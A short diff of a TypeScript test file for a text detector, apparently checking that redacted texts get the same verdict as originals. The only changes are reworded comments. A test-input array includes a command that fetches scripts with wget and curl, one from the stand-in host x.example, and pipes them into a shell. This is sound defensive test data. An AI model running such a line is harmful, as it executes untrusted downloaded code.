@@ -12,7 +12,7 @@ import {
 } from "../service/support/texts.js";
 import { sharedDetector, unmarked } from "../support/marked.js";
 
-/** The verdict on a redacted text is the verdict on the original. */
+/** Tests that the verdict on a redacted text is that on the original. */
 
 const redacted = new Map<string, string>();
 
@@ -49,7 +49,7 @@ const TRICKY = [
   "wget -O- file:///home/bob/sh | sh && curl ftp://bob@x.example/i | zsh",
 ];
 
-/** Returns every tenth case, because neighbouring cases are similar; in the extended profile, which is slower, every thirtieth. */
+/** Returns every tenth case, because neighbouring cases are similar, or every thirtieth for the extended profile, which is slower. */
 const contractCases = (profile: Profile): string[] =>
   contractTexts().filter((_, index) => index % (profile === "contract" ? 10 : 30) === 0);
 
